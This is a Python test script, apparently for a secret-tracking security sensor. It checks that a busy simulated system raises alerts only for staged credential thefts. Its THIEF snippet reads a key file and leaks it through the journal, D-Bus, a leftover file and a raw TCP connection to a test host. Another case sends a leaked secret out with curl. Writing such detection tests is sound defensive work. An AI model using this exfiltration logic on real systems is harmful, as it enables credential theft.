#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Marks do not spread beyond the secret. A busy system compiles, logs, uses the message bus and pipes, archives files,
logs in, and connects to the network again and again. Meanwhile thieves steal, and also log the secret, send it over the
bus and leave it in files that no process reads. Every theft raises an alert, and nothing else does.

usage: test-discipline.py [--long] (10 minutes instead of 30 seconds)"""

import contextlib
import os
import re
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, "../harness"), os.path.join(HERE, "../benign")]

import scene as stage
from scene import URL
from sshd import Server

import harness
import tap
from net import HOST_V4
from tap import Failure, require, require_equal

SECONDS = 600 if "--long" in sys.argv else 20
# Two thefts per second for ten minutes mark more files and pipes than the default limit allows in an hour, for which
# the marks of keys are kept: these would be losses.
SITE_POLICY = "[Correlator]\nMaxMarks=65536\n"
JOURNALD = "/usr/lib/systemd/systemd-journald"
JOURNAL, BUS = "/run/systemd/journal", "/run/session-bus"
# A compilation or a login on two busy cores.
ROUND_TIMEOUT = 60 * tap.SLOW

# argv: the key, where it is left, the sockets of the journal, the bus, the destination.
THIEF = """
import os, socket, subprocess, sys
key, left, journal, bus, to = sys.argv[1:]
secret = open(key, "rb").read()
with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
    log.sendto(b"PRIORITY=6\\nMESSAGE=" + secret.replace(b"\\n", b" ") + b"\\n", journal + "/socket")
open(left, "wb").write(secret)
subprocess.run(["logger", "--socket", journal + "/dev-log", "--", secret.decode()], check=True)
subprocess.run(["systemd-cat", "echo", secret], check=True)
subprocess.run(["dbus-send", "--bus=unix:path=" + bus, "/thief", "org.example.Thief.Said", "string:" + secret.decode()],
               check=True)
socket.create_connection((to, 443)).sendall(secret)
"""

# One server for all clients that is not a carrier: marked once, it would mark all of them.
SERVER = """
import socketserver, sys
class Echo(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(self.rfile.readline())
socketserver.ThreadingUnixStreamServer(sys.argv[1], Echo).serve_forever()
"""
CLIENT = """
import socket, sys
with socket.socket(socket.AF_UNIX) as s:
    s.connect(sys.argv[1])
    s.sendall(b"hello\\n")
    print(s.recv(6).decode())
"""

# Commands that one shell runs over and over. It reads their output, and would be marked for good by any mark that
# reached it. $1 is a directory of its own, $2 the socket of the echo server, $3 the command for logging in. Each round
# ends with a connection to the network.
ROUNDS = {
    "a compile": """make -s -C "$1" clean; make -s -j2 -C "$1" """,
    "find and xargs": """find /usr/share/doc -name copyright | head -n 300 | xargs cat | sort | uniq -c | tail -n 1""",
    "the journal's writers and readers": f"""logger --socket {JOURNAL}/dev-log round; echo round | systemd-cat cat
        journalctl --no-pager --lines=30 | grep round | cut -c 1-60 | tail -n 1""",
    "the message bus": f"""dbus-send --bus=unix:path={BUS} --print-reply --dest=org.freedesktop.DBus / \\
        org.freedesktop.DBus.ListNames | grep -c string; dbus-send --bus=unix:path={BUS} /o org.example.Round.Done""",
    "a local server's clients": """/usr/bin/python3 -c "$CLIENT" "$2" """,
    "temporary files and archives": """f=$(mktemp -p "$1"); seq 5000 >"$f"; sort -r "$f" | gzip >"$f.gz"
        tar -C "$1" -cf - "${f##*/}.gz" | tar -xOf - | gunzip | awk '{ n += $1 } END { print n }' | tee "$f" | wc -c
        cat "$f" | while read -r line; do echo "$line"; done; rm "$f" "$f.gz" """,
    "git": """cd "$1"; echo "$n" >file; git add file; git commit -q -m "$n"; git log --oneline | head -n 3""",
    "names of users and hosts": """getent passwd root; getent hosts localhost; id -un""",
    # 255: the connection failed, not the command.
    "log-ins": """$3 curl -sS $URL || { [ $? = 255 ] && { echo "log-in $n:"; cat "$1/errors"; } >>"$1/broken"; }""",
}
# Logins only make load. Of so many, one may fail.
LOGINS_PER_BROKEN = 100
LOOP = """n=0
while [ -e "$RUN" ]; do
        said=$({ ROUND
        } 2>"$1/errors") || exit 1
        curl -sS -o /dev/null "$URL" || exit 1
        n=$((n + 1)); echo "$n" >"$1/rounds"
done"""
MAKEFILE = "all: a.o b.o c.o\n\tar rc all.a *.o\n%.c:\n\techo '#include <stdio.h>' >$@\nclean:\n\trm -f *.o *.a\n"


class Discipline:
    def __init__(self, s, stack, login):
        self.s, self.stack, self.workers, self.thieves, self.login = s, stack, {}, {}, login
        self.directory = f"{s.world.root}/busy"
        self.left = f"{s.world.root}/left"
        os.mkdir(self.directory)
        os.mkdir(self.left)
        # The rounds continue as long as this file exists.
        self.go_on = f"{self.directory}/run"
        with open(self.go_on, "x", encoding="ascii"):
            pass

    def spawn(self, command, **environment):
        process = self.s.net.popen(self.s.world.command("root", command, **environment), stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL)
        self.stack.callback(process.wait)
        self.stack.callback(process.terminate)
        return process

    def serve(self):
        """The journal and a message bus of this world, and a server for everybody."""
        world, echo = self.s.world, f"{self.directory}/echo"
        world.do("sh", "-ec", f"mkdir -p {JOURNAL} /run/dbus /etc/systemd; cat >/etc/systemd/journald.conf",
                 stdin="[Journal]\nStorage=volatile\nReadKMsg=no\nAudit=no\n")
        self.spawn([JOURNALD])
        self.spawn(["dbus-daemon", "--session", "--nofork", f"--address=unix:path={BUS}"])
        self.spawn(["/usr/bin/python3", "-c", SERVER, echo])
        seen = f"/proc/{world.holder.pid}/root"
        for path in (f"{JOURNAL}/socket", f"{JOURNAL}/dev-log", f"{JOURNAL}/stdout", BUS, echo):
            self.s.bw.wait(lambda path=path: os.path.exists(seen + path), ROUND_TIMEOUT, path)
        return echo

    def set_up(self):
        echo = self.serve()
        self.s.world.do("sh", "-c", "cat >/etc/cron.d/busy",
                        stdin=f"* * * * * root curl -sS {URL} | logger --socket {JOURNAL}/dev-log\n")
        for number, (name, round_) in enumerate(ROUNDS.items()):
            own = f"{self.directory}/{number}"
            os.mkdir(own)
            with open(f"{own}/Makefile", "w", encoding="ascii") as out:
                out.write(MAKEFILE)
            self.s.world.do("sh", "-ec", "git -C \"$1\" init -q; git -C \"$1\" config user.email a@example.org;"
                            "git -C \"$1\" config user.name a", "sh", own)
            worker = self.spawn(["/bin/sh", "-c", LOOP.replace("ROUND", round_), "sh", own, echo, self.login],
                                RUN=self.go_on, URL=URL, CLIENT=CLIENT)
            self.workers[name] = (worker, own)
        if os.access("/usr/sbin/cron", os.X_OK):
            self.spawn(["/usr/sbin/cron", "-f"])

    def rounds(self):
        counts = {}
        for name, (_, own) in self.workers.items():
            with contextlib.suppress(FileNotFoundError), open(f"{own}/rounds", encoding="ascii") as file:
                counts[name] = int(file.read().strip() or 0)
        return counts

    def require_logins(self, t, server):
        """A few logins may fail; each is shown."""
        broken = f"{self.workers['log-ins'][1]}/broken"
        if not os.path.exists(broken):
            return
        with open(broken, encoding="utf-8", errors="replace") as file:
            said = file.read()
        t.note(f"{said}sshd: {server.said()[-1000:]}")
        n, rounds = len(re.findall(r"^log-in \d+:$", said, re.M)), self.rounds()["log-ins"]
        require(n * LOGINS_PER_BROKEN <= rounds, f"{n} of {rounds} log-ins are broken")

    def require_busy(self):
        for name, (worker, own) in self.workers.items():
            if worker.poll() is not None:
                with open(f"{own}/errors", encoding="utf-8", errors="replace") as errors:
                    raise Failure(f"{name}: ended with {worker.returncode}: {errors.read()}")

    def steal(self):
        key, content = self.s.home.key()
        left = f"{self.left}/{len(self.thieves)}"
        thief = self.s.net.popen(
            self.s.world.command("root", ["/usr/bin/python3", "-c", THIEF, os.fsdecode(key), left, JOURNAL, BUS,
                                          HOST_V4]),
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        self.thieves[thief.pid] = left
        said = thief.communicate(timeout=ROUND_TIMEOUT)[1]
        require_equal((thief.returncode, said), (0, ""), "the thief")
        self.s.net.sink.wait_arrived(content)
        self.s.bw.wait_alert(lambda a: a["process"]["pid"] == thief.pid and harness.touches(a, key),
                             f"the theft of {key}", ROUND_TIMEOUT)

    def require_silence(self):
        self.s.bw.prove_delivered(self.s.net, self.s.home)
        noise = [a for a in self.s.alerts_since(0) if a["process"]["pid"] not in self.thieves]
        text = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files'][:2]} {a['destination']}"
                         for a in noise[:3])
        require(not noise, f"{len(noise)} alerts about others, the first:\n{text}")


def busy(t, d, server):
    d.set_up()
    wanted = set(ROUNDS)
    # Every command has used the network before anything is stolen, and uses it again after the last theft.
    d.s.bw.wait(lambda: d.require_busy() or set(d.rounds()) == wanted, ROUND_TIMEOUT, "a first round of all")
    d.require_silence()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        d.steal()
        d.require_busy()
    after = d.rounds()
    d.s.bw.wait(lambda: d.require_busy() or all(n > after[name] + 1 for name, n in d.rounds().items()), ROUND_TIMEOUT,
                "a last round of all")
    t.note(f"{len(d.thieves)} thefts; rounds: {', '.join(f'{n} {name}' for name, n in d.rounds().items())}")
    d.require_silence()
    os.unlink(d.go_on)
    for worker, _ in d.workers.values():
        worker.wait(ROUND_TIMEOUT)
    d.require_logins(t, server)
    d.require_silence()


def followed(d):
    """Proves that the silence is not that of a sensor that follows nothing: the secret of a thief is read where it was
    left."""
    require(d.thieves, "nobody stole")
    # The answer of the server does not matter.
    d.s.run(["/bin/sh", "-c", f"cat {next(iter(d.thieves.values()))} | curl -sS -o /dev/null -d @- {URL}"])
    alert = d.s.bw.wait_alert(lambda a: a["process"]["comm"] == "curl", "curl's")
    vias = [hop["via"] for hop in alert["files"][0]["route"]]
    require_equal(vias[-2:], ["file", "pipe"], "the route")


@contextlib.contextmanager
def site():
    with tempfile.TemporaryDirectory(prefix="barbwire-site-") as directory:
        os.chmod(directory, 0o755)
        with open(f"{directory}/90-site.conf", "w", encoding="ascii") as out:
            out.write(SITE_POLICY)
        yield directory


def main():
    t = tap.Tap()
    with site() as directory, stage.scene((directory, harness.DEFAULT_POLICY)) as s, Server(s) as server, \
            contextlib.ExitStack() as stack:
        login = " ".join(["ssh", *server.options("root"), f"root@{HOST_V4}"]) if server.process else "env"
        d = Discipline(s, stack, login)
        t.case(f"{SECONDS} s of a busy system: an alert for each theft, and no other", busy, t, d, server)
        t.case("an alert for reading what a thief left", followed, d)
        t.case("no loss", stage.no_loss, s.bw)
    t.done()


if __name__ == "__main__":
    main()
